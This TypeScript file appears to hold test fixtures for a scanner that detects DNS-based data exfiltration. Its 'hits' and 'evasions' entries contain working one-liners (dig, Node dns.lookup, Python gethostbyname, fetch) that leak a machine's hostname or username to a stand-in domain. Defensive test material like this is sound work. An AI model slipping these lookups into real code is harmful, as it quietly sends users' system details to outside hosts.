import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Names that are asked for with data in them, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "the name of the computer in a question to a name server",
      files: { "setup.sh": "dig $(hostname).x.files.example\n" },
    },
    {
      name: "from Node.js",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
require("dns").lookup(Buffer.from(os.userInfo().username).toString("hex") + ".x.files.example", () => undefined);
`,
      },
    },
    {
      name: "from Python",
      files: {
        "setup.py": `import getpass, socket
socket.gethostbyname(getpass.getuser() + ".x.files.example")
`,
      },
    },
  ],
  misses: [
    {
      name: "a computer that looks up itself",
      why: "The name stands alone, without a domain of somebody else.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
require("dns").lookup(os.hostname(), () => undefined);
`,
      },
    },
    {
      name: "a service found by its setting",
      why: "The setting names a server and holds no data of the computer.",
      files: {
        "package.json": manifest,
        "server.js": 'require("dns").lookup(`${process.env.SERVICE}.host.example`, () => undefined);\n',
      },
    },
    {
      name: "a neighbour in the own network",
      why: "The question stays in the own network.",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
require("dns").lookup(os.hostname() + ".printer.local", () => undefined);
`,
      },
    },
  ],
  evasions: [
    {
      name: "an address with the data in it, asked by the web",
      caughtBy: "code/computer-described-and-sent",
      files: {
        "package.json": manifest,
        "server.js": `const os = require("os");
fetch(\`https://\${os.hostname()}-\${os.userInfo().username}.x.files.example/\`);
`,
      },
    },
  ],
};
